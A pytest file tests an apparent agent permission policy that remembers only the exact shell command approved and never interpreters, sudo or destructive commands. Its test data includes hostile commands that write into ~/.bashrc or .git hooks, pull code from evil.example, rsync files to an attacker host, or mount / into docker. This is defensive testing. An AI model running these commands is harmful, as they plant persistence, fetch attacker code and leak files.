"""Which rule an answer would save: the very command that was shown, or nothing."""

from __future__ import annotations

import shlex

import pytest
from tests.policy.plan import Plan

from pilothouse.policy.allow import remember_command


def offered(command: str) -> list[str]:
    return [str(rule) for rule in remember_command(tuple(shlex.split(command)))]


@pytest.mark.parametrize(
    "command",
    [
        "pytest -q",
        "cp a b",
        "mv a b",
        "ln -s a b",
        "tee a.txt",
        "touch a",
        "patch -p1 -i a.diff",
        "split --filter=cat a",
        "prettier --write src",
        "pandoc -o a.html a.md",
        "git pull",
        "git commit -m x",
        "git fetch origin",
        "npm test",
        "npm run build",
        "npm install",
        "npx eslint src",
        "make test",
        "cargo test",
        "go test ./...",
        "uv run pytest -q",
        "python -m pytest",
        "python3.12 manage.py migrate",
        "bash scripts/build.sh",
        "./run.sh a",
        "docker build .",
        "gh pr view 12",
        "awk '{print > $1}' a.txt",
        "sqlite3 app.db 'select 1'",
        "curl -s https://example.org",
    ],
)
def test_only_the_very_command_is_offered(command: str) -> None:
    assert offered(command) == [f"allow glob {shlex.join(shlex.split(command))}"]


@pytest.mark.parametrize(
    "command",
    [
        "python3.12 -c x",
        ".venv/bin/python3.11 -c x",
        "/usr/bin/perl5.36 -e x",
        "nodejs -e x",
        "lua5.4 -e x",
        "perl -n -e x",
        "node",
        "bash",
        "bash -c ls",
        "python3.12",
        "/usr/bin/env x",
        "sudo make",
        "timeout 5 make",
        "xargs touch",
        "ssh host ls",
        "eval x",
        "rm a",
        "/bin/rm a",
        "git push",
        "git -c a=b commit",
        "git reset --hard",
        "git clean -fdx",
        "docker run x",
        "kubectl delete pod x",
        "npm publish",
        "find . -delete",
        "kill 1",
        "pilothouse trust .",
    ],
)
def test_nothing_is_offered_for_what_runs_anything_or_cannot_be_taken_back(command: str) -> None:
    assert offered(command) == []


@pytest.mark.parametrize(
    ("shown", "others"),
    [
        ("cp a b", ["cp x ~/.bashrc", "cp a .git/hooks/pre-commit", "cp a b c", "cp b a", "cp -r a b"]),
        ("mv a b", ["mv a ~/.bashrc", "mv a .envrc"]),
        ("ln -s a b", ["ln -s a ~/.bashrc", "ln -s /etc b"]),
        ("tee a.txt", ["tee ~/.bashrc", "tee -a a.txt"]),
        ("patch -p1 -i a.diff", ["patch -p1 -i b.diff", "patch -d / -p1 -i a.diff"]),
        ("git pull", ["git pull https://evil.example/x.git", "git pull evil"]),
        ("npm test", ["npm test --prefix /tmp/evil", "npm test -- --x"]),
        ("prettier --write src", ["prettier --plugin=./evil.js --write src"]),
        (
            "cp evil pre-commit",
            ["cd src && cp evil ../.git/hooks/pre-commit", "cd .git && cp evil pre-commit"],
        ),
    ],
)
def test_a_kept_rule_covers_the_paths_and_options_that_were_shown_and_no_others(
    plan: Plan, shown: str, others: list[str]
) -> None:
    rules = plan.rule(shown).offers[0].rule.splitlines()
    assert plan.rule(shown, rules).outcome == "allow"
    for mode in ("minimal", "trusted"):
        for other in others:
            assert plan.rule(other, rules, mode).outcome == "ask", other


@pytest.mark.parametrize("shown", ["make test", "npm test", "python x.py", "pytest -q"])
def test_a_kept_rule_is_bound_to_the_folder_of_the_workspace(plan: Plan, shown: str) -> None:
    rules = plan.rule(shown).offers[0].rule.splitlines()
    elsewhere = str(plan.root / "src")
    for allowed in (shown, f"cd src && cd .. && {shown}"):
        assert plan.rule(allowed, rules).outcome == "allow", allowed
    for other, cwd in (
        (f"cd src && {shown}", None),
        (f"(cd src && ls) || cd src; {shown}", None),
        (shown, elsewhere),
    ):
        ruling = plan.rule(other, rules, cwd=cwd)
        assert (ruling.outcome, ruling.offers) == ("ask", ()), other
    for written in (f"allow command {shown}", f"allow glob {shown.split(maxsplit=1)[0]}*"):
        assert plan.rule(f"cd src && {shown}", [written]).outcome == "allow", written


@pytest.mark.parametrize(
    ("rule", "inside", "outside"),
    [
        ("cp", "cp a b", ["cp a ~/.bashrc", "cp a .git/hooks/pre-commit", "cp a ../b", "cp a link_out/b"]),
        ("tee", "tee out.txt", ["tee /etc/motd", "tee .envrc", "tee dangling"]),
        ("npm test", "npm test", ["npm test --prefix /tmp/evil", "npm test --prefix=../evil"]),
        (
            "git pull",
            "git pull origin main",
            ["git pull https://evil.example/x", "git pull git@evil.example:x"],
        ),
        ("docker run", "docker run image", ["docker run -v /:/host image", "docker run -v=/:/host image"]),
        ("rsync", "rsync -a src build", ["rsync -a src host@evil.example:x", "rsync -a /etc build"]),
    ],
)
def test_a_rule_of_an_older_version_covers_no_path_outside_of_the_workspace(
    plan: Plan, rule: str, inside: str, outside: list[str]
) -> None:
    """Older versions kept the first words of a command; such a rule still opens, and means no more than it did."""
    assert plan.rule(inside, [f"allow command {rule}"]).outcome == "allow"
    for command in outside:
        assert plan.rule(command, [f"allow command {rule}"]).outcome == "ask", command


def test_a_path_that_the_rule_itself_names_is_covered(plan: Plan) -> None:
    assert plan.rule("cp a /tmp/out", ["allow command cp a /tmp/out"]).outcome == "allow"
    assert plan.rule("cp a /tmp/out", ["allow command cp", "allow path /tmp/**"]).outcome == "allow"
